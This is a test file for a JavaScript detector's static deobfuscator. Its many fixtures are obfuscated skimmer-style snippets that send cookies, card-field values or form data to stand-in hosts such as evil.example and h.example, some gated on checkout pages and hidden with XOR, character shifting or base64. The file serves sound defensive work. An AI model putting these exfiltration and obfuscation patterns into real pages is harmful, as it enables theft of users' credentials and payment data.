import { describe, expect, it } from 'vitest'
import { parseStrict } from '../../detector/parse.ts'
import { resolveStatically } from '../../detector/deobfuscate/partial.ts'

// The partial evaluator as data: source in, what the resolved layer must and must not say.
const SHIFTED =
  '103,102,117,100,105,41,35,48,121,64,101,62,35,44,101,112,100,118,110,102,111,117,47,100,112,112,108,106,102,42'
const CASES: { name: string; source: string; has: string[]; not?: string[] }[] = [
  {
    name: "a fresh object's new prototype changes only what that object inherits",
    source: `var f = function () {}; var g = f.constructor.prototype.bind(f); g.__proto__ = f.bind(f)
      var o = { a: 1 }; o.__proto__ = { b: 'x' }
      document.title = o.b + '|' + g.q + '|' + 'https://relay.example|c'.split('|')[0]`,
    has: ['"https://relay.example"'],
    not: ['undefined|'],
  },
  {
    name: 'a name declared twice, or made by a method merely called bind or create, is not taken for fresh',
    source: `var P = Array.prototype
      function f() { if (0) { let P = {} } P.__proto__ = { dest: 1 } }
      var Q = mk.create(); Q.__proto__ = { dest: 1 }
      f(); document.title = 'https://' + ([].dest ? 'evil' : 'good') + '.example/c'`,
    has: [],
    not: ['"https://good.example/c"'],
  },
  {
    name: 'an object whose prototype is set to null inherits nothing the evaluator knows of',
    source: `var o = { a: 1 }; o.__proto__ = null; document.title = o.toString ? 'evil' : 'good'`,
    has: [],
    not: ['"evil"'],
  },
  {
    name: 'a prototype set on an object that may be shared leaves every inherited name unknown',
    source: `function adopt(x) { x.__proto__ = { split: function () { return ['https://evil.example'] } } }
      adopt(String.prototype); document.title = 'https://relay.example|c'.split('|')[0]`,
    has: [],
    not: ['"https://relay.example"'],
  },
  {
    name: "a named object literal's method reads its own constants through this",
    source: `var H = { parts: ['https://', 'stats.example-cdn.net', '/c.php'], busy: false,
      target: function () { return this.parts.join('') },
      send: function () { this.busy = true; fetch(this.target(), { method: 'POST' }) } }
      document.addEventListener('click', function () { H.send() })`,
    has: ['fetch("https://stats.example-cdn.net/c.php"'],
  },
  {
    name: 'a bare this.k is not written out: a method handed out as a handler runs with another this',
    source: `var S = { value: '', send: function () { fetch('https://relay.example/c', { method: 'POST', body: this.value }) } }
      document.querySelector('#cc_number').onchange = S.send`,
    has: [],
    not: ['body: ""'],
  },
  {
    name: 'Object.keys lists integer keys first, ascending; sort takes a comparator or sorts as text',
    source: `var seg = { 3: 'd', 1: 'b', z: '!', 0: 'a', 2: 'c' }
      var a = Object.keys(seg).map(function (k) { return seg[k] }).join('')
      var b = Object.keys(seg).sort(function (x, y) { return y < x ? -1 : 1 }).join('')
      var c = [10, 9, 1].sort().join('-') + [3, 1, 2].sort((x, y) => x - y).join('')
      var d = Object.values(seg).join('') + Object.entries({ k: 'v' }).map(function (e) { return e.join('=') })[0]
      fetch('https://x.example/' + a + b + c + d)`,
    has: ['fetch("https://x.example/abcd!z32101-10-9123abcd!k=v")'],
  },
  {
    name: "an array's named members are no part of its Object.keys, values or entries as the evaluator reads them",
    source: `var a = ['https://']; a.h = 'relay.example/c'; navigator.sendBeacon(Object.values(a).join(''), 1)`,
    has: [],
    not: ['sendBeacon("https://"'],
  },
  {
    name: 'a comparator that cannot be worked out leaves the sort alone',
    source: `var p = ['b', 'a']; p.sort(function () { return window.r }); fetch('https://x.example/' + p.join(''))`,
    has: [],
    not: ['fetch("https://x.example/ab")', 'fetch("https://x.example/ba")'],
  },
  {
    name: 'not when code writes through this under a computed name or a copier',
    source: `var H = { parts: ['https://shop.example', '/ok'],
      init: function (cfg) { Object.assign(this, cfg) },
      send: function () { fetch(this.parts.join(''), { method: 'POST' }) } }
      H.init(window.remoteCfg); document.addEventListener('click', function () { H.send() })`,
    has: [],
    not: ['fetch("https://shop.example/ok"'],
  },
  {
    name: 'an object a function made is read where its member is, unless code writes it',
    source: `var cfg = (function (p) { return { to: p[0] + '//' + p[1] } })(['https:', 'ingest.example-metrics.org'])
      document.addEventListener('click', function () { fetch(cfg.to, { method: 'POST' }) })
      var cfg2 = (function (p) { return { to: p[0] } })(['https://shop.example/a'])
      document.addEventListener('change', function () { cfg2[window.k] = 'x'; fetch(cfg2.to) })`,
    has: ['fetch("https://ingest.example-metrics.org"'],
    not: ['fetch("https://shop.example/a")'],
  },
  {
    name: "the global object obfuscators fetch with Function('return this')() reads its built-ins",
    source: `var g=Function('return (function() '+'{}.constructor("return this")( )'+');')();
      var u=g['atob']('aHR0cHM6Ly9jZG4tbWV0cmljcy5zdS9j');new Image().src=u+'?d='+document.cookie`,
    has: ['"https://cdn-metrics.su/c?d="'],
  },
  {
    name: 'an array rotated by a plain push/shift loop (no checksum) is read in its rotated order',
    source: `var t=['second','third','first'];(function(a,n){var r=function(k){while(--k){a.push(a.shift())}};r(++n)}(t,0x1));
      var d=function(i){i=i-0x0;return t[i]};document.title=d('0x0')`,
    has: ['document.title="third"'],
    not: ['document.title="second"'],
  },
  {
    name: 'code decoded by fromCharCode.apply over a mapped array, in a branch on the page URL',
    source: `!function(){var t,n=[${SHIFTED}];if(/checkout/.test(location.pathname)){t=String.fromCharCode.apply(null,n.map(function(c){return c-1}));var s=document.createElement('script');s.text=t;document.head.appendChild(s)}}()`,
    has: ['atob("ZmV0Y2goIi94P2Q9Iitkb2N1bWVudC5jb29raWUp")'],
  },
  {
    name: 'a comma sequence (minified statements) keeps what its first parts set',
    source: `var t,e,n;n=[${SHIFTED}],/checkout/.test(location.pathname)&&(t=String.fromCharCode.apply(null,n.map(function(c){return c-1})),(e=document.createElement('script')).text=t,document.head.appendChild(e))`,
    has: ['atob("ZmV0Y2goIi94P2Q9Iitkb2N1bWVudC5jb29raWUp")'],
  },
  {
    name: 'a built-in that is no decoder (join) is not passed off as decoded text',
    source: `var sep = '', parts = ['render(', 'model', ');'];
      function go(){ var body = parts.join(sep); return new Function('model', body) }
      go()`,
    has: [],
    not: ['atob('],
  },
  {
    name: 'hex XORed into a Uint8Array and read with a TextDecoder',
    source: `function unpack(h,k){const o=new Uint8Array(h.length/2);for(let i=0;i<o.length;i++)o[i]=parseInt(h.substr(i*2,2),16)^k.charCodeAt(i%k.length);return new TextDecoder().decode(o)}
      const s=document.createElement('script');s.text=unpack('0d5c1f5a031149511f4d1b4a51164441455c13580649075c445a545d561b405d045a1e540e571f1708560452025c42','k9');document.head.appendChild(s)`,
    has: ['atob("'],
  },
  {
    name: 'an array a callback writes to in a statement cut short stays unknown',
    source: `!function(){var t,n=[${SHIFTED}];if(/checkout/.test(location.pathname)){t=String.fromCharCode.apply(null,n.map(function(c){n.push(0);return c-1}));var s=document.createElement('script');s.text=t;document.head.appendChild(s)}}()`,
    has: [],
    not: ['atob('],
  },
  {
    name: 'a global array of escaped strings read by index, also as property names',
    source: `var _$=['\\x76\\x61\\x6c\\x75\\x65','\\u0073\\u0065\\u006e\\u0064','https://h.example/c'];
      var i=document.getElementById('cc'); var x=new XMLHttpRequest(); x.open('POST',_$[2]); x[_$[1]](i[_$[0]]);`,
    has: ['x.send(', 'i.value', '"https://h.example/c"'],
  },
  {
    name: 'a local decoder (XOR over char codes with a key) called with constants',
    source: `function d(s,k){var o='';for(var i=0;i<s.length;i++)o+=String.fromCharCode(s.charCodeAt(i)^k.charCodeAt(i%k.length));return o}
      var t=d(${JSON.stringify([...'https://evil.example/g'].map((c, i) => String.fromCharCode(c.charCodeAt(0) ^ 'k7'.charCodeAt(i % 2))).join(''))},'k7'); navigator.sendBeacon(t, 'x')`,
    has: ['"https://evil.example/g"'],
  },
  {
    name: 'member chains built from concatenations',
    source: `var h = window['loc'+'ation']['hos'+'t']; document['cook'+'ie'] = 'a=1'`,
    has: ['window.location.host', 'document.cookie'],
  },
  {
    name: 'an array rotated by a constant loop before use',
    source: `var a=['b','c','a']; (function(x,n){while(n--)x.push(x.shift())})(a,2); var k = a[0] + a[1] + a[2]; fetch(k)`,
    has: ['"abc"'],
  },
  {
    name: 'switch-in-loop flattening driven by an order string',
    source: `var o='2|0|1'.split('|'),i=0;while(true){switch(o[i++]){case '0':var b=2;continue;case '1':fetch('/x?'+a+b);continue;case '2':var a=1;continue}break}`,
    has: ['var a=1;\nvar b=2;\nfetch('],
  },
  {
    name: 'a variable declared after an early return is unknown, not undefined',
    source: `var S={};function go(){var ok=false,k;for(k in S)ok=true;if(!ok)return;var v=pack();var l=document.createElement('link');l.href='https://h.example/p?v='+encodeURIComponent(v)}
      document.addEventListener('submit',go)`,
    has: ["'https://h.example/p?v='+encodeURIComponent(v)"],
    not: ['undefined'],
  },
  {
    // minified code gives many variables one name: a library's own `d` and `g`, reassigned and
    // filled in its functions, say nothing of the `d` and `g` of the code appended after it
    name: 'names reassigned in other functions do not hide what code after a library holds',
    source: `!function(g,d){for(d in g)g[d]=d;d=g.x}({});!function(){var g=[];g.push(1)}();
      (function(g){var d='at'+'ob';Function(g[d]('YWxlcnQoMSk='))()})(this)`,
    has: ['atob("YWxlcnQoMSk=")'],
  },
  {
    // a gate on the page's address cannot be decided, but the code behind it runs as a whole
    name: 'the arm behind a gate the simulation cannot decide is resolved as if it ran',
    source: `if (location.pathname.indexOf('checkout') > -1) {
      var n = ['a', 'b', 'c', 'fetch']
      ;(function (t) { for (; --t;) n.push(n.shift()) })(467)
      var c = function (e) { return n[e - 156] }
      if (document.forms.length) { window[c(157)]('https://h.example/x?' + document.cookie) }
    }`,
    has: ['window.fetch('],
  },
  {
    // a library writes \`length\` (and other names) on objects of its own in code run later
    name: "a library's writes to its own objects' properties do not touch an array made after it",
    source: `!function(t){t.fn={push:function(e){this.length=e.length;this.size=0}}}(window);
      ;(function () { var H = [104, 46, 101, 120]
        function host () { var s = ''; for (var i = 0; i < H.length; i++) s += String.fromCharCode(H[i]); return s }
        setTimeout(function () { var e = document.createElement('script'); e.src = 'https://' + host() + '/x' }, 10) })()`,
    has: ['"https://h.ex/x"'],
  },
  {
    // a bundler's module namespace object inherits nothing: no other object gains properties
    name: 'an object made with __proto__: null leaves what other objects inherit as it was',
    source: `var ns = Object.freeze({ __proto__: null, a: 1 })
      var memo = {}, k = ['aHR0cHM6Ly9oLmV4YW1wbGUveA==']
      function dec(i) { if (memo[i] !== void 0) return memo[i]; return (memo[i] = atob(k[i])) }
      fetch(dec(0) + '?c=' + document.cookie)`,
    has: ['fetch("https://h.example/x?c="'],
  },
  {
    // a callback handed to code the evaluator cannot follow writes its own locals, not ours
    name: "a callback's own variables are not the outer ones of the same name",
    source: `(function ($) { $('.x').each(function () { var k = this.id; var q = []; q.push(k) }) })(jQuery)
      var k = ['aHR0cHM6Ly9oLmV4YW1wbGUv', 'eA=='], q = 0
      fetch(atob(k.join('')) + '?c=' + document.cookie)`,
    has: ['"aHR0cHM6Ly9oLmV4YW1wbGUveA=="'],
  },
  {
    name: "a helper beside the gate reads the gate's own vars as the arm left them",
    source: `!function(t){if(t.FormData&&t.Proxy){var a=["https://","h.",".example","/c"];
      t.addEventListener("submit",function(e){c(e.target)})}
      function c(f){navigator.sendBeacon(a.slice(0,4).join(""),new FormData(f))}}(window)`,
    has: ['sendBeacon("https://h..example/c"'],
  },
  {
    name: 'a page object checked with typeof is there, as it is on every page',
    source: `!function(){"use strict";if("undefined"!=typeof window&&"undefined"!=typeof document){
      var e,t,n=["a","b","c","fetch"];e=n,t=466,function(t){for(;--t;)e.push(e.shift())}(++t);
      var c=function(e,t){return n[e-=156]};var o=c(157)+c(158)}}();`,
    has: ['var o="fetcha"'],
  },
  {
    name: 'constant branches keep only the live arm',
    source: `function f(){ return 'k' } if (f() === 'k') { send(1) } else { decoy() }`,
    has: ['send(1)'],
    not: ['decoy'],
  },
  {
    name: 'code in the live arm of a constant branch is resolved too (ternary and if)',
    source: `function r(s){return s.split('').reverse().join('')}
      if (r('ba') === 'ab') { window[r('hctef')](r('x') === 'x' ? r('c/elpmaxe.h//:sptth') : decoy()) } else { decoy() }`,
    has: ['window.fetch(', '"https://h.example/c"'],
    not: ['decoy'],
  },
  {
    name: 'a value set by a statement that cannot be followed stays unknown',
    source: `var port = location.port ? ':' + location.port : ''; fetch('http://api.example' + port + '/t')`,
    has: [],
    not: ['undefined'],
  },
  {
    name: 'a variable changed in a callback is never inlined',
    source: `var u = 'a'; var n = 0; el.onclick = function(){ n++; u = u + n }; fetch(u + '/p')`,
    has: [],
    not: ['"a/p"'],
  },
  {
    name: 'an array filled by a loop the simulation cannot follow is never folded empty',
    source: `var f = document.querySelectorAll('input'); var d = []; for (var i = 0; i < f.length; i++) d.push(f[i].value); new Image().src = 'https://h.example/c?d=' + btoa(d.join('|'))`,
    has: ['btoa(d.join('],
  },
  {
    name: 'an array filled by a callback is never folded empty',
    source: `var d = []; document.addEventListener('change', function (e) { d.push(e.target.value) }); setTimeout(function () { fetch('https://h.example/?' + d.join(',')) }, 9)`,
    has: ["d.join(',')"],
  },
  {
    name: 'a block-scoped name that hides an outer function keeps the branches on it',
    source: `function i(){return 0}
      function walk(list){for(;list.length>0;){const t=list.pop(),i=t.nodeType;if(1===i){new Image().src='https://h.example/c?v='+t.value}}}
      walk([].slice.call(document.forms))`,
    has: ["new Image().src='https://h.example/c?v='+t.value"],
  },
  {
    name: 'a catch parameter and a loop binding hide outer functions too',
    source: `function e(){return 0} function k(){return 0}
      function go(xs){try{JSON.parse(xs)}catch(e){if(e===1)fetch('https://h.example/a')}for(const k of xs){if(k!==e)fetch('https://h.example/b?'+k)}}
      go(location.hash)`,
    has: ["fetch('https://h.example/a')", "fetch('https://h.example/b?'+k)"],
  },
  {
    name: 'a destructured parameter hides an outer function',
    source: `function v(){return 0}
      function send({v}){if(v==='x'){navigator.sendBeacon('https://h.example/s',v)}}
      document.addEventListener('change',function(ev){send({v:ev.target.value})})`,
    has: ["navigator.sendBeacon('https://h.example/s',v)"],
  },
  {
    name: 'a property of a function object that code sets later is not a constant branch',
    source: `function p(){} p.ready=false
      document.addEventListener('DOMContentLoaded',function(){p.ready=true})
      document.addEventListener('change',function(ev){if(p.ready){fetch('https://h.example/p?'+ev.target.value)}})`,
    has: ["fetch('https://h.example/p?'+ev.target.value)"],
  },
  {
    name: 'an object merged with data from storage is unknown after the merge',
    source: `var o={armed:false};Object.assign(o,JSON.parse(localStorage.x||'{}'));if(o.armed){fetch('https://h.example/m')}`,
    has: ["fetch('https://h.example/m')"],
  },
  {
    name: 'an object handed to a library function is unknown after the call',
    source: `var cfg={on:0,to:''};$.extend(cfg,window.remoteConfig);if(cfg.on){navigator.sendBeacon('https://h.example/x',document.forms[0].innerHTML)}`,
    has: ["navigator.sendBeacon('https://h.example/x'"],
  },
  {
    name: 'an array changed by a method the evaluator does not model is unknown after it',
    source: `var f=[0,1];f.copyWithin(0,1);if(f[0]){fetch('https://h.example/f')}`,
    has: ['if(f[0])'],
  },
  {
    name: 'a name put on Object.prototype is not read as absent from objects',
    source: `Object.prototype.armed=true;var o={};var u=o.armed?'https://h.example/q':'';if(o.armed){fetch(u+document.cookie)}`,
    has: ["'https://h.example/q'", 'fetch(u+document.cookie)'],
  },
  {
    name: 'a prototype set through __proto__, defineProperty or an array prototype is followed as unknown',
    source: `var o={};o.__proto__={on:1};if(o.on){fetch('https://h.example/1')}
      Object.defineProperty(Object.prototype,'go',{value:1});var p={};if(p.go){fetch('https://h.example/2')}
      Array.prototype.ready=1;var a=[];if(a.ready){fetch('https://h.example/3')}`,
    has: [
      "fetch('https://h.example/1')",
      "fetch('https://h.example/2')",
      "fetch('https://h.example/3')",
    ],
  },
  {
    name: 'code inside a with statement is left as it is, and the object it writes is unknown',
    source: `var n=0,o={n:0};with(o){n=1;if(n){fetch('https://h.example/w')}}if(o.n){fetch('https://h.example/v')}`,
    has: ["fetch('https://h.example/w')", "fetch('https://h.example/v')"],
  },
  {
    name: 'a branch on an object property is kept: the object may change before or after it runs',
    source: `var t={a:1};if(t.a){fetch('https://h.example/1')}t.a=0
      var u={b:1},w=u;function f(){w.b=0}f();if(u.b){fetch('https://h.example/2')}
      var n={c:{d:1}},q=n.c;q.d=0;if(n.c.d){fetch('https://h.example/3')}`,
    has: [
      "fetch('https://h.example/1')",
      "fetch('https://h.example/2')",
      "fetch('https://h.example/3')",
    ],
  },
  {
    name: 'a function declared in a block hides the outer one after the block',
    source: `function g(){return 'https://h.example/a'}
      function f(c){if(c){function g(){return 'https://h.example/b'}}fetch(g()+document.cookie)}
      f(location.hash)`,
    has: ['fetch(g()+document.cookie)'],
    not: ['"https://h.example/a"+document.cookie'],
  },
  {
    name: 'arguments after a spread are not matched to parameters',
    source: `(function(a,b){fetch(b+'/x?'+document.cookie)})(...location.hash.split(','),'https://h.example','https://other.example')`,
    has: ["fetch(b+'/x?'+document.cookie)"],
  },
  {
    name: 'a branch on a name given a function later keeps its code',
    source: `var go=1;if(go===1){fetch('https://h.example/1')}go=function(){}
      var on=1;!function(){if(on===1){fetch('https://h.example/2')}}();on=function(){}`,
    has: ["fetch('https://h.example/1')", "fetch('https://h.example/2')"],
  },
  {
    name: 'a call of the sample’s own function reads its globals as they were when it ran',
    source: `var flag=1;function f(){return flag}if(f()){fetch('https://h.example/1')}flag=0`,
    has: ["fetch('https://h.example/1')"],
  },
  {
    name: 'an array read before a later write is not given the later value',
    source: `var t=['https://h.example/a'];fetch(t[0]);t[0]='https://h.example/b'
      var u=['https://h.example/c'];fetch(u[0]);u=['https://h.example/d']`,
    has: ['fetch(t[0])', 'fetch(u[0])'],
    not: ['"https://h.example/b"', '"https://h.example/d"'],
  },
  {
    name: 'a parameter replaced by a function later in the body is read as it was',
    source: `var P=function(){function a(){}a.parse=function(a,g){a=g?a.indexOf('^'):a.indexOf('!');var m=-1===a?0:a*2;a=function(){return m};return a()};return a}();fetch('/x?'+P.parse(location.hash,1))`,
    has: ['-1===a?0:a*2'],
  },
  {
    name: 'an object property read before it is replaced is not given the later value',
    source: `var c={u:'https://h.example/a'};fetch(c.u+'?'+document.cookie);c.u='https://h.example/b'
      function d(){}d.u='https://h.example/c';fetch(d.u+'?'+document.cookie);d.u='https://h.example/e'`,
    has: ["fetch(c.u+'?'+document.cookie)", "fetch(d.u+'?'+document.cookie)"],
    not: ['h.example/b?', 'h.example/e?'],
  },
  {
    name: 'a property given its first value, or read by code that runs later, is read as set',
    source: `var c={};c.u='https://h.example/a';fetch(c.u+'?'+document.cookie)
      var d={u:'https://h.example/c'};onclick=function(){fetch(d.u+'?'+document.cookie)};d.u='https://h.example/e'`,
    has: ['fetch("https://h.example/a?"+', 'fetch("https://h.example/e?"+'],
  },
  {
    name: 'code that runs after the last write reads the last value',
    source: `var t=['https://h.example/a'];t[0]='https://h.example/b';fetch(t[0]+'?'+document.cookie)
      var u=['https://h.example/c'];onclick=function(){fetch(u[0]+'?'+document.cookie)};u=['https://h.example/d']`,
    has: ['fetch("https://h.example/b?"+', 'fetch("https://h.example/d?"+'],
  },
  {
    name: 'a break out of a labelled block ends the block, not the simulation',
    source: `var q=['https://h.example/a'];x:{break x}q[0]='https://h.example/b';fetch(q[0]+'?'+document.cookie)`,
    has: ['fetch("https://h.example/b?"+'],
    not: ['h.example/a?'],
  },
  {
    name: 'what statements left unrun after the step budget would write is unknown',
    source: `var q=['https://h.example/a'];for(var i=0;i<5e5;i++){}for(var j=0;j<5e5;j++){}for(var k=0;k<5e5;k++){}q[0]='https://h.example/b';fetch(q[0]+'?'+document.cookie)`,
    has: [],
    not: ['h.example/a?'],
  },
  {
    name: 'a counted loop too long for the steps left ends at once, leaving them to the code after it',
    source: `var a=[];for(var i=0;i<4e6;i++){}for(var j=0;4e6>j;j+=1){}
      a.push('https://h.exa');a.push('mple/c');fetch(a.join('')+document.cookie)`,
    has: ['fetch("https://h.example/c"+'],
  },
  {
    name: 'an address a built-in decoder makes from mapped codes is written back as decoded text',
    source: `var e=[107,119,119,115,118,61,50,50,107,49,104,123,100,112,115,111,104,50,113,49,109,118];
      function f(){var o=window.jQuery;o.getScript(String.fromCharCode.apply(null,e.map(function(t){return t-3})))}`,
    has: ['o.getScript(atob("aHR0cHM6Ly9oLmV4YW1wbGUvbi5qcw==")'],
  },
  {
    name: 'a method read off one array and called on another works on the other',
    source: `var j=function(){return [].slice.call(arguments).join('')};fetch(j('https://h.exa','mple/c')+document.cookie)`,
    has: ['fetch("https://h.example/c"+'],
    not: ['fetch(""'],
  },
  {
    name: 'a tagged template run by a function of the file is replaced by the text it makes',
    source: `function t(s){return String.raw.apply(String,arguments).replace(/\\\\/g,'').split('').reverse().join('')}
      var u=t\`c\\/elpmaxe.h\\/\\/:sptth\`;fetch(u+document.cookie)`,
    has: ['var u="https://h.example/c"'],
  },
  {
    name: 'an implicit global made after a call ran is not seen by that call',
    source: `function s(){return typeof w=='string'?w:'https://h.example/a'}fetch(s()+'?'+document.cookie);w='https://h.example/b'`,
    has: [],
    not: ['h.example/b?'],
  },
  {
    name: 'an array read whole before a later write is not given the later items',
    source: `var t=['https://h.example/a'];fetch(''+t+'?'+document.cookie);t[0]='https://h.example/b'
      var u=['https://h.example/','c'];fetch(String(u)+'?'+document.cookie);u[1]='d'`,
    has: [],
    not: ['h.example/b?', ',d?'],
  },
  {
    name: 'a decoder written in place and given only constants is replaced by its result',
    source: `setTimeout(function(s){return s.split('').reverse().join('')}(")eikooc.tnemucod+'=x?/elpmaxe.h//:sptth'(hctef"),10)
      !function(){var m=(function(a,b){return a+b})('https://h.example','/y');fetch(m+document.cookie)}()`,
    has: ['setTimeout(atob("', 'var m="https://h.example/y"'],
  },
  {
    name: 'a flag a handler sets is not read as its initial value, also through a getter',
    source: `let armed = false, n = 0; const isArmed = () => armed; function count() { return n }
      document.addEventListener('change', function () { armed = true; n++ })
      document.addEventListener('click', function () {
        if (isArmed()) fetch('https://h.example/a?' + document.cookie)
        if (count() > 2) fetch('https://h.example/b?' + document.cookie)
      })`,
    has: ["fetch('https://h.example/a?'", "fetch('https://h.example/b?'"],
  },
  {
    name: 'nor a property or an array a handler fills, read directly or through a getter',
    source: `var st = { armed: false }, q = []; function armed() { return st.armed }
      function full() { return q.length > 2 }
      document.addEventListener('input', function (e) { st.armed = true; q.push(e.target.value) })
      document.addEventListener('click', function () {
        if (armed()) fetch('https://h.example/c?' + document.cookie)
        if (st.armed) fetch('https://h.example/d?' + document.cookie)
        if (full()) fetch('https://h.example/e?' + q.join())
      })`,
    has: [
      "fetch('https://h.example/c?'",
      "fetch('https://h.example/d?'",
      "fetch('https://h.example/e?'",
    ],
  },
  {
    name: 'while what those handlers leave alone, and a decoder’s own memo table, are still read',
    source: `var cfg = { host: 'h.example', n: 0 }, memo = {}
      function dec(s) { if (memo[s]) return memo[s]; return (memo[s] = s.split('').reverse().join('')) }
      document.addEventListener('input', function () { cfg.n++ })
      document.addEventListener('click', function () { fetch('https://' + cfg.host + '/' + dec('fp') + '?' + document.cookie) })`,
    has: ['"https://h.example/pf?"'],
  },
  {
    name: 'a decoder used at load and filling its memo in a handler that stopped earlier still reads',
    source: `var T = ['kwwsv=22f1h{dpsoh2l', 'irupv', 'ydoxh'], seen = {}
      function d(i) {
        if (seen[i] !== undefined) return seen[i]
        var o = ''
        for (var j = 0; j < T[i].length; j++) o += String.fromCharCode(T[i].charCodeAt(j) - 3)
        return (seen[i] = o)
      }
      function re(i) { return new RegExp(d(i), 'i') }
      function grab() {
        var all = document[d(1)][0].elements, out = [], r = re(2)
        for (var k = 0; k < all.length; k++) if (r.test(all[k].name)) out.push(all[k][d(2)])
        return out
      }
      document.addEventListener(d(1), function () {
        var out = grab()
        fetch(d(0), { method: 'POST', body: out.join('&') })
      })`,
    has: ['fetch("https://c.example/i"'],
  },
  {
    name: "a property no code writes keeps its literal after a call of the object's own method the evaluator cannot finish",
    source: `(function (doc) {
      var Box = { ns: 'elpmaxe.h//:sptth', tiers: [], cfg: { sel: '.x' },
        bind: function () { var self = this; var all = doc.querySelectorAll(this.cfg.sel)
          if (!all.length) return; doc.addEventListener('change', function () { self.read(all) }) },
        read: function (a) { return a[0].value } }
      Box.bind()
      var u = Box.ns.split('').reverse().join(''); fetch(u + '/c?' + document.cookie)
    })(document)`,
    has: ['var u = "https://h.example"'],
  },
  {
    name: 'a property a method writes by name, somewhere, is not kept',
    source: `(function (doc) {
      var Box = { ns: 'elpmaxe.h//:sptth',
        bind: function () { if (!doc.querySelectorAll('.x').length) return; this.ns = doc.title } }
      Box.bind()
      var u = Box.ns.split('').reverse().join(''); fetch(u + '/c?' + document.cookie)
    })(document)`,
    has: [],
    not: ['"https://h.example"'],
  },
  {
    name: 'nor is any when a method hands `this` to other code, or the object is written under a computed name',
    source: `(function (doc) {
      var A = { ns: 'elpmaxe.a//:sptth',
        bind: function () { var self = this; if (!doc.querySelectorAll('.x').length) return; $.extend(self, doc.dataset) } }
      var B = { ns: 'elpmaxe.b//:sptth',
        bind: function () { if (!doc.querySelectorAll('.x').length) return; B[doc.title] = 1 } }
      A.bind(); B.bind()
      fetch(A.ns.split('').reverse().join('') + B.ns.split('').reverse().join(''))
    })(document)`,
    has: [],
    not: ['"https://a.example"', '"https://b.example"'],
  },
  {
    name: 'other code writing a member of the same name into its own objects changes nothing',
    source: `function lib(t, e) { t.ns = e; t.key = e }
      (function (doc) {
        var Box = { ns: 'elpmaxe.h//:sptth', bind: function () { if (!doc.querySelectorAll('.x').length) return } }
        Box.bind()
        fetch(Box.ns.split('').reverse().join('') + '/c?' + document.cookie)
      })(document)`,
    has: ['fetch("https://h.example/c?"'],
  },
  {
    name: 'but an object handed to other code is written by any write of that name',
    source: `(function (doc) {
        var Box = { ns: 'elpmaxe.h//:sptth', bind: function () { if (!doc.querySelectorAll('.x').length) return } }
        var held = Box
        doc.addEventListener('change', function () { held.ns = location.hash })
        Box.bind()
        fetch(Box.ns.split('').reverse().join('') + '/c?' + document.cookie)
      })(document)`,
    has: [],
    not: ['"https://h.example'],
  },
  {
    name: "a function's own text, read with Function.prototype.toString, carries a payload in a comment",
    source: `function defaults() { return { d: 300 }
        /* cfg:start ZmV0Y2goJ2h0dHBzOi8vaC5leGFtcGxlL2M/Jytkb2N1bWVudC5jb29raWUp cfg:end */ }
      var src = Function.prototype.toString.call(defaults)
      var a = src.indexOf('cfg:start'), b = src.indexOf('cfg:end')
      setTimeout(atob(src.slice(a + 9, b).trim()), 0)`,
    has: ['atob("ZmV0Y2goJ2h0dHBzOi8vaC5leGFtcGxlL2M/Jytkb2N1bWVudC5jb29raWUp")'],
  },
  {
    name: 'Function.prototype is no object of the sample: members other than toString and constructor are unknown',
    source: `var k = typeof Function.prototype.bind === 'undefined' ? 'elpmaxe.a//:sptth' : 'elpmaxe.b//:sptth'
      fetch(k.split('').reverse().join('') + '/c?' + document.cookie)`,
    has: [],
    not: ['"https://a.example'],
  },
  {
    name: "code given to an async function's or a generator's constructor, with new, is read as Function's",
    source: `var AF = Object.getPrototypeOf(async function () {}).constructor
      var GF = Object.getPrototypeOf(function* () {}).constructor
      var k = 'ZmV0Y2goJ2h0dHBzOi8vaC5leGFtcGxlL2M/Jytkb2N1bWVudC5jb29raWUp', t = atob(k.split('').join(''))
      new AF('w', t)(window); new GF(t)().next()`,
    has: ["new Function('w', atob(", 'new Function(atob('],
  },
]

describe('code handed to a runner through another function', () => {
  // long enough that decoding it takes more steps than an ordinary expression is given
  const stage = Array.from({ length: 300 }, (_, i) => `window.v${i} = document.title;`).join('')
  const shifted = [...stage].map((c) => String.fromCharCode(c.charCodeAt(0) + 1)).join('')
  const un = `function un(s) { var o = ''; for (var i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) - 1); return o }`
  it.each([
    ['eval.bind', `setTimeout(eval.bind(null, un(${JSON.stringify(shifted)})), 10)`],
    ['Function.call', `Function.call(null, un(${JSON.stringify(shifted)}))()`],
    ['Reflect.apply', `Reflect.apply(eval, null, [un(${JSON.stringify(shifted)})])`],
    ['Reflect.construct', `Reflect.construct(Function, [un(${JSON.stringify(shifted)})])()`],
  ])('%s', (_how, call) => {
    const source = `${un}\n${call}`
    const out = resolveStatically(parseStrict(source) as never, source)?.source ?? source
    expect(out).toContain(`atob("${Buffer.from(stage).toString('base64')}")`)
  })
})

describe('partial evaluator', () => {
  for (const c of CASES)
    it(c.name, () => {
      const ast = parseStrict(c.source)
      expect(ast).not.toBeNull()
      const out = resolveStatically(ast as never, c.source)?.source ?? c.source
      for (const s of c.has) expect(out).toContain(s)
      for (const s of c.not ?? []) expect(out).not.toContain(s)
    })

  it('stops an endless loop at its step budget', () => {
    const source = `var s = 'x'; while (true) { s = s + '' } var z = ['a','b'][1] + 'c'; fetch(z)`
    const t0 = performance.now()
    resolveStatically(parseStrict(source) as never, source)
    expect(performance.now() - t0).toBeLessThan(20_000)
  })
})
